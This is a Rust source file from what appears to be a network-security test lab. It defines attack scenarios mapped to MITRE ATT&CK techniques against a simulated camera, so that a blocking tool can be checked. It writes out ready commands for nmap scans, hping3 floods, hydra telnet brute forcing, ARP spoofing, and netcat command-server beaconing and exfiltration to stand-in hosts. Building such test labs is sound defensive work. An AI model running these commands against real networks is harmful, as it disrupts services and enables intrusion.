@@ -1,0 +1,313 @@
+//! What goes wrong in the lab: real tools against real services, each with the target that may be shut for it.
+
+use std::{net::Ipv4Addr, process::Command};
+
+use anyhow::Result;
+
+use crate::{
+    netns::Netns,
+    sniffer::Sniffer,
+    topology::{COMMAND, DROP, ELSEWHERE, GATEWAY, Topology},
+};
+
+/// Who attacks.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Origin {
+    /// A host on the internet, at a new address for each scenario.
+    Outside,
+    /// A device on the protected side.
+    Device(&'static str),
+}
+
+/// One scenario.
+#[derive(Clone, Copy, Debug)]
+pub struct Attack {
+    /// Name on the command line and in the report.
+    pub name: &'static str,
+    /// MITRE ATT&CK technique.
+    pub technique: &'static str,
+    /// What happens, for people.
+    pub story: &'static str,
+    /// Who attacks.
+    pub origin: Origin,
+    /// Whether only a device's own baseline can tell it from normal behaviour.
+    pub needs_baseline: bool,
+    /// The tool, as shell words; `{me}`, `{camera}`, `{gateway}`, `{command}`, `{drop}` and `{dir}` are filled in.
+    tool: &'static str,
+    /// Packets of the attack where they arrive, in pcap-filter syntax.
+    filter: &'static str,
+    /// Where they arrive.
+    arrives: Arrival,
+    /// Addresses of accomplices that may be blocked instead.
+    accomplice: Option<Ipv4Addr>,
+}
+
+#[derive(Clone, Copy, Debug)]
+enum Arrival {
+    Camera,
+    Internet,
+}
+
+/// Every scenario, rules first.
+pub const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "vertical-scan",
+        technique: "T1046",
+        story: "a host on the internet scans the camera's ports with nmap",
+        origin: Origin::Outside,
+        needs_baseline: false,
+        tool: "nmap -n -Pn -sS -p- -T4 --max-retries 1 {camera}",
+        filter: "src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "syn-flood",
+        technique: "T1499.001",
+        story: "a host on the internet floods the camera's web server with SYNs by hping3",
+        origin: Origin::Outside,
+        needs_baseline: false,
+        tool: "hping3 -q -n -S -p 8080 -i u500 {camera}",
+        filter: "src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "udp-flood",
+        technique: "T1498.001",
+        story: "a host on the internet floods the camera with UDP by hping3",
+        origin: Origin::Outside,
+        needs_baseline: false,
+        tool: "hping3 -q -n -2 -p 5004 -d 64 -i u250 {camera}",
+        filter: "src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "icmp-flood",
+        technique: "T1498.001",
+        story: "a host on the internet floods the camera with pings by hping3",
+        origin: Origin::Outside,
+        needs_baseline: false,
+        tool: "hping3 -q -n -1 -d 56 -i u500 {camera}",
+        filter: "src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "brute-force",
+        technique: "T1110",
+        story: "a host on the internet guesses the camera's telnet password with hydra",
+        origin: Origin::Outside,
+        needs_baseline: false,
+        tool: "hydra -I -q -t 8 -l admin -x 4:4:a {camera} telnet",
+        filter: "src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "internal-scan",
+        technique: "T1046",
+        story: "a visitor's computer on the LAN scans the camera's ports with nmap, from port to port",
+        origin: Origin::Device("visitor"),
+        needs_baseline: false,
+        tool: "nmap -n -Pn -sS -p- -T4 --max-retries 1 {camera}",
+        filter: "ip and src host {me}",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "horizontal-scan",
+        technique: "T1046",
+        story: "a visitor's computer looks for web servers in a whole network with nmap",
+        origin: Origin::Device("visitor"),
+        needs_baseline: false,
+        tool: "nmap -n -Pn -sS -p 80,8080 -T4 --max-retries 1 {elsewhere} {elsewhere} {elsewhere} {elsewhere}",
+        filter: "src host {me} and dst net {elsewhere}",
+        arrives: Arrival::Internet,
+        accomplice: None,
+    },
+    Attack {
+        name: "mirai-telnet",
+        technique: "T1046",
+        story: "the infected recorder looks for telnet servers at random addresses, as Mirai does",
+        origin: Origin::Device("recorder"),
+        needs_baseline: false,
+        tool: "hping3 -q -n -S -p 23 -i u10000 -I eth0 --rand-dest 203.0.113.x",
+        filter: "src host {me} and dst net {elsewhere}",
+        arrives: Arrival::Internet,
+        accomplice: None,
+    },
+    Attack {
+        name: "arp-spoof",
+        technique: "T1557.002",
+        story: "a visitor's computer tells the camera that it is the gateway, with arpspoof",
+        origin: Origin::Device("visitor"),
+        needs_baseline: false,
+        tool: "arpspoof -i eth0 -t {camera} {gateway}",
+        filter: "arp and ether src {mac} and arp[6:2] = 2",
+        arrives: Arrival::Camera,
+        accomplice: None,
+    },
+    Attack {
+        name: "c2-beacon",
+        technique: "T1071",
+        story: "the infected recorder asks its command server for orders every second",
+        origin: Origin::Device("recorder"),
+        needs_baseline: true,
+        tool: "sh -c 'while :; do echo ready | nc -q 0 -w 1 {command} 4444 >/dev/null; sleep 1; done'",
+        filter: "src host {me} and dst host {command}",
+        arrives: Arrival::Internet,
+        accomplice: Some(COMMAND),
+    },
+    Attack {
+        name: "exfiltration",
+        technique: "T1048",
+        story: "the infected recorder sends recordings away at 20 Mbit/s",
+        origin: Origin::Device("recorder"),
+        needs_baseline: true,
+        tool: "sh -c 'while :; do head -c 250000 /dev/zero; sleep 0.1; done | nc {drop} 443'",
+        filter: "src host {me} and dst host {drop}",
+        arrives: Arrival::Internet,
+        accomplice: Some(DROP),
+    },
+];
+
+/// An attack, aimed.
+#[derive(Debug)]
+pub struct Aimed<'a> {
+    attack: &'a Attack,
+    topology: &'a Topology,
+    me: Ipv4Addr,
+    mac: &'static str,
+}
+
+impl Attack {
+    /// The scenario of that name.
+    pub fn by_name(name: &str) -> Option<&'static Self> {
+        ATTACKS.iter().find(|attack| attack.name == name)
+    }
+
+    /// Gives the attacker its address; `number` makes it one of its own.
+    pub fn aim<'a>(&'a self, topology: &'a Topology, number: u8) -> Result<Aimed<'a>> {
+        let (me, mac) = match self.origin {
+            Origin::Outside => (topology.become_attacker(number)?, ""),
+            Origin::Device(name) => {
+                let place = topology.device(name)?;
+                (place.address, place.mac)
+            }
+        };
+        Ok(Aimed { attack: self, topology, me, mac })
+    }
+}
+
+impl Aimed<'_> {
+    /// What may be shut for it, as Tidegate writes targets: the attacker's device or address, or an accomplice's.
+    pub fn culprits(&self) -> Vec<String> {
+        let own = if self.mac.is_empty() { self.me.to_string() } else { self.mac.to_owned() };
+        std::iter::once(own).chain(self.attack.accomplice.map(|address| address.to_string())).collect()
+    }
+
+    /// The device whose service the attack itself may harm, besides the attacker's own.
+    pub fn attacker_device(&self) -> Option<&'static str> {
+        match self.attack.origin {
+            Origin::Outside => None,
+            Origin::Device(name) => Some(name),
+        }
+    }
+
+    /// The tool, ready to start.
+    pub fn tool(&self) -> Command {
+        let words = words(&self.fill(self.attack.tool));
+        let mut command = self.home().command(&words[0]);
+        // hydra leaves a file where it is started.
+        command.args(&words[1..]).current_dir(self.topology.directory());
+        command
+    }
+
+    /// Watches attack packets as they leave the attacker.
+    pub fn at_the_source(&self) -> Result<Sniffer> {
+        Sniffer::start(self.home(), "eth0", &self.fill(self.attack.filter))
+    }
+
+    /// Watches attack packets as they arrive behind the gateway.
+    pub fn at_the_victim(&self) -> Result<Sniffer> {
+        let filter = self.fill(self.attack.filter);
+        match self.attack.arrives {
+            Arrival::Camera => Sniffer::start(&self.topology.device("camera")?.netns, "eth0", &filter),
+            Arrival::Internet => Sniffer::start(&self.topology.internet, "gw", &filter),
+        }
+    }
+
+    fn home(&self) -> &Netns {
+        let device = self.attacker_device().and_then(|name| self.topology.device(name).ok());
+        device.map_or(&self.topology.attacker, |place| &place.netns)
+    }
+
+    fn fill(&self, template: &str) -> String {
+        let camera =
+            self.topology.device("camera").map(|place| place.address.to_string()).unwrap_or_default();
+        template
+            .replace("{me}", &self.me.to_string())
+            .replace("{mac}", self.mac)
+            .replace("{camera}", &camera)
+            .replace("{gateway}", &GATEWAY.to_string())
+            .replace("{command}", &COMMAND.to_string())
+            .replace("{drop}", &DROP.to_string())
+            .replace("{elsewhere}", ELSEWHERE)
+    }
+}
+
+/// Splits at spaces, except within single quotes.
+fn words(line: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    for (index, part) in line.split('\'').enumerate() {
+        if index % 2 == 1 {
+            words.push(part.to_owned());
+        } else {
+            words.extend(part.split_whitespace().map(str::to_owned));
+        }
+    }
+    words
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "a test may stop at once")]
+    use std::{collections::BTreeSet, time::Duration};
+
+    use super::*;
+    use crate::{process::Process, service::Services, wait_for};
+
+    #[test]
+    fn names_are_unique_and_lines_split_like_a_shell() {
+        let names: BTreeSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
+        assert_eq!(names.len(), ATTACKS.len());
+        assert_eq!(words("sh -c 'a | b' c"), ["sh", "-c", "a | b", "c"]);
+    }
+
+    #[test]
+    fn without_tidegate_every_attack_arrives() {
+        if !crate::is_root() {
+            crate::skipped("attack::without_tidegate_every_attack_arrives", "needs root for namespaces");
+            return;
+        }
+        let topology = Topology::create().unwrap();
+        let _services = Services::start(&topology).unwrap();
+        let _devices = crate::device::Devices::start(&topology).unwrap();
+        for (number, attack) in ATTACKS.iter().enumerate() {
+            let aimed = attack.aim(&topology, number as u8).unwrap();
+            let (source, victim) = (aimed.at_the_source().unwrap(), aimed.at_the_victim().unwrap());
+            let tool = Process::start(&mut aimed.tool(), &topology.directory().join("tool.log")).unwrap();
+            let arrived = wait_for(Duration::from_secs(10), || (victim.count() >= 3).then_some(()));
+            assert!(
+                arrived.is_some(),
+                "{}: {} packets sent, {} arrived; {}",
+                attack.name,
+                source.count(),
+                victim.count(),
+                tool.said()
+            );
+        }
+    }
+}
